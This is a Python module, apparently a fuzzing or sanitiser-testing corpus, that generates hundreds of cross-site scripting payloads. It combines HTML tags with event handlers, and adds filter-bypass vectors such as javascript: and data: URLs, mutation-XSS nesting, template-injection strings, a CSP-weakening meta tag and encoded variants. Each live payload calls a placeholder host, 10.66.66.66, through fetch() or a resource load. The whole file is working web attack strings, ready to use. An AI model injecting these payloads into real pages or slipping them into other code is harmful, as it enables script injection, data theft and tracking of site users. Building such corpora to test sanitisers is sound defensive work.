"""Texts that would be markup, were a page to take them for it: by a grammar of our own.

Tags that run a handler by themselves or when touched, handlers, contexts to break out of, and encodings that a page
must not undo. Whatever runs calls SIGN.
"""

from collections.abc import Callable, Mapping
from urllib.parse import quote

SIGN = "10.66.66.66"  # whom a vector calls, were it to run
RUN = f"fetch('http://{SIGN}/')"
EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpageshow",
)
EVENTS += (
    "onscroll",
    "onpointerenter",
    "onwheel",
    "oncut",
    "ondrag",
    "oninput",
    "onsubmit",
    "onresize",
    "onbeforeunload",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "audio src=x",
    "iframe",
    "details open",
    "input autofocus",
    "marquee",
)
TAGS += (
    "object data=x",
    "embed src=x",
    "select autofocus",
    "style",
    "math",
    "form",
    "a href=x",
    "textarea autofocus",
    "x",
)
FORMS = (
    "<{tag} {event}={run}>",
    "<{tag}/{event}={run}//",
    '"><{tag} {event}="{run}">',
    "'><{tag} {event}='{run}'>",
    "</title><{tag}\n{event}\n=\n{run}>",
    "<{tag} {event}=`{run}`>",
)
OTHERS = (
    "<script>{run}</script>",
    "<ScRiPt>{run}</sCrIpT>",
    "</script><script>{run}</script>",
    "<script src=//{sign}/x.js></script>",
    "<scr<script>ipt>{run}</script>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={run}>#x'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror={run}>'>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<textarea></textarea><img src=x onerror={run}>",
    "<!--><img src=x onerror={run}>-->",
    "<![CDATA[><img src=x onerror={run}>]]>",
    "<a href=javascript:{run}>x</a>",
    "<a href=' javascript:{run}'>x</a>",
    "<a href=java&#x0A;script:{run}>x</a>",
    "<a href=data:text/html,<script>{run}</script>>x</a>",
    "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>{run}</script>'></iframe>",
    "<object data='data:text/html,<script>{run}</script>'></object>",
    "<embed src='data:text/html,<script>{run}</script>'>",
    "<meta http-equiv=refresh content='0;url=http://{sign}/'>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<base href=http://{sign}/>",
    "<link rel=stylesheet href=http://{sign}/x.css>",
    "<link rel=prefetch href=http://{sign}/>",
    "<link rel=dns-prefetch href=//{sign}>",
    "<link rel=preconnect href=http://{sign}>",
    "<iframe srcdoc='&lt;link rel=preconnect href=http://{sign}&gt;'></iframe>",
    "<iframe/SrcDoc='&#60;l&#105;nk rel=preconnect href=http://{sign}>'></iframe>",
    "<LINK/rel=preconnect/href=http://{sign}>",
    "<link rel=icon href=http://{sign}/i>",
    "<link rel=manifest href=http://{sign}/m>",
    "<style>@import 'http://{sign}/x.css';</style>",
    "<style>body{{background:url(http://{sign}/)}}</style>",
    "<style>@font-face{{font-family:x;src:url(http://{sign}/f)}}*{{font-family:x}}</style>",
    "<div style='background:url(http://{sign}/)'>x</div>",
    "<div style='width:expression({run})'>x</div>",
    "<img src=http://{sign}/i.png>",
    "<img srcset='http://{sign}/i.png 2x'>",
    "<picture><source srcset=http://{sign}/><img src=x></picture>",
    "<video poster=http://{sign}/ src=http://{sign}/v autoplay></video>",
    "<audio src=http://{sign}/a autoplay></audio>",
    "<track src=http://{sign}/t>",
    "<iframe src=http://{sign}/></iframe>",
    "<frameset><frame src=http://{sign}/></frameset>",
    "<object data=http://{sign}/></object>",
    "<embed src=http://{sign}/>",
    "<form action=http://{sign}/><button autofocus>x</button></form>",
    "<input type=image src=http://{sign}/>",
    "<body background=http://{sign}/>",
    "<table background=http://{sign}/>",
    "<svg><image href=http://{sign}/ /></svg>",
    "<svg><filter><feImage href=http://{sign}/ /></filter></svg>",
    "<a ping=http://{sign}/ href=x>x</a>",
    "<portal src=http://{sign}/></portal>",
    "<x style=content:url(http://{sign}/)>x",
    "{{{{constructor.constructor('{run}')()}}}}",
    "${{{run}}}",
    "<%= {run} %>",
    "\u2028<script>{run}</script>",
    "\ufeff<script>{run}</script>",
    "+ADw-script+AD4-{run}+ADw-/script+AD4-",
    "&lt;script&gt;{run}&lt;/script&gt;",
    "\xbcscript\xbe{run}\xbc/script\xbe",
    "%3Cscript%3E{run}%3C/script%3E",
)
VECTORS = tuple(
    dict.fromkeys(
        [form.format(tag=tag, event=event, run=RUN) for tag in TAGS for event in EVENTS for form in FORMS]
        + [form.format(run=RUN, sign=SIGN) for form in OTHERS]
    )
)
ENCODINGS: Mapping[str, Callable[[str], str]] = {
    "entities": lambda text: "".join(f"&#{ord(char)};" for char in text),
    "hexadecimal entities": lambda text: "".join(f"&#x{ord(char):X};" for char in text),
    "named entities": lambda text: text.replace("&", "&amp;").replace("<", "&LT;").replace(">", "&GT;"),
    "percent": lambda text: quote(text, safe=""),
    "percent twice": lambda text: quote(quote(text, safe=""), safe=""),
    "escapes": lambda text: "".join(f"\\u{ord(char):04x}" for char in text),
    "wide": lambda text: "".join(chr(ord(char) + 0xFEE0) if "!" <= char <= "~" else char for char in text),
}
ENCODED = tuple(encode(form.format(run="alert(1)", sign=SIGN)) for encode in ENCODINGS.values() for form in OTHERS)
CORPUS = VECTORS + ENCODED


def lines(chars_max: int) -> list[str]:
    """The corpus as it fits into a field of one line."""
    some = (vector.replace("\n", " ").strip() for vector in CORPUS if not set(vector) & set("\u2028\ufeff"))
    return [vector[:chars_max] for vector in some]
